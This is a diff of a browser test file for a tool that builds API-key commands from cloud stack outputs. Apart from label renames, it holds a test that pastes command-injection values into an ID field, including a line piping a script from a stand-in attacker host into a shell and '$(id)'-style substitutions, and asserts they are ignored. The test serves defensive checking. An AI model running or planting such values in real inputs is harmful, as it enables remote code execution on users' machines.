@@ -126,8 +126,8 @@ scenario('a command of an earlier call holds the key of its own API', { allow },
   await eventually(() => assert.deepEqual(a.keys, [KEY]));
   await enter(page, b.url);
   await key(page).fill('the-key-of-b');
-  const call = region(page, 'Exchanges');
-  await button(call, 'Copy the command with the key').click();
+  const call = region(page, 'History');
+  await button(call, 'Copy as curl with the key').click();
   await eventually(async () => {
     const command = await page.evaluate(() => navigator.clipboard.readText());
     assert.ok(command.includes(a.url) && command.includes(KEY), command);
@@ -141,10 +141,10 @@ scenario('a value that is pasted does not become a command', {}, async (page) =>
   const base = 'https://abc.execute-api.eu-west-1.amazonaws.com/prod/';
   for (const id of ['x; curl https://evil.example | sh', '$(id)', '`id`', "'; id; '", 'a\nid', 'a'.repeat(65)]) {
     const outputs = { APIUrl: base, TableName: 'resumes', ApiKeyId: id };
-    await field(page, 'Outputs of the stack').fill(JSON.stringify(outputs));
+    await field(page, 'Stack outputs').fill(JSON.stringify(outputs));
     await eventually(async () => assert.match(await result(page), /ApiKeyId was ignored/, id));
     assert.equal(await page.getByText('get-api-key').count(), 0, id);
   }
-  await field(page, 'Outputs of the stack').fill(JSON.stringify({ APIUrl: base, TableName: 'resumes', ApiKeyId: 'a1B2' }));
+  await field(page, 'Stack outputs').fill(JSON.stringify({ APIUrl: base, TableName: 'resumes', ApiKeyId: 'a1B2' }));
   await page.getByText('get-api-key --api-key a1B2 --include-value').waitFor();
 });
